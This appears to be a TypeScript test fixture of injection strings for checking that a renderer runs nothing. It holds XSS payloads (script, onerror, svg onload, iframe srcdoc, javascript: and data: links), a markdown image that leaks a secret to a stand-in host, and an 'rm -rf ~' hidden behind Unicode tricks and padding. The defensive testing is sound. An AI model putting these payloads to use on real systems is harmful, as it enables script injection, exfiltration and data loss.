// Text that tries to run, to load, to hide or to break a page. A test puts it into every field that an agent, a tool, a file or a user
// controls. Nothing of it may run: `window.ran` tells.

/** Nobody may ask this host for anything. */
export const FOREIGN = 'http://192.0.2.1'

export const SCRIPT = `<script>window.ran = 'script'</script><img src=x onerror="window.ran = 'img'">`
export const MARKDOWN = [
  `![picture](${FOREIGN}/leak.png?secret)`,
  `[click me](javascript:window.ran='link')`,
  `[and me](data:text/html,<script>window.ran='data'</script>)`,
  `[away](${FOREIGN}/away)`,
  `<svg onload="window.ran = 'svg'"></svg>`,
  `<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>`,
  `<style>body { display: none }</style>`,
  `[ref]: ${FOREIGN}/ref`,
].join('\n\n')
/** Right-to-left override, zero width, tags, a Hangul filler, and 60 blanks that push the end out of sight. */
export const HIDDEN = `compute(3\u202e00)\u200b\u{e0041}\u3164${' '.repeat(60)}; rm -rf ~`
/** Short enough for a title or a name. */
export const SHORT = `${SCRIPT} [x](javascript:window.ran='x') \u202eevil`
export const LONG_LINE = 'x'.repeat(1_000_000)
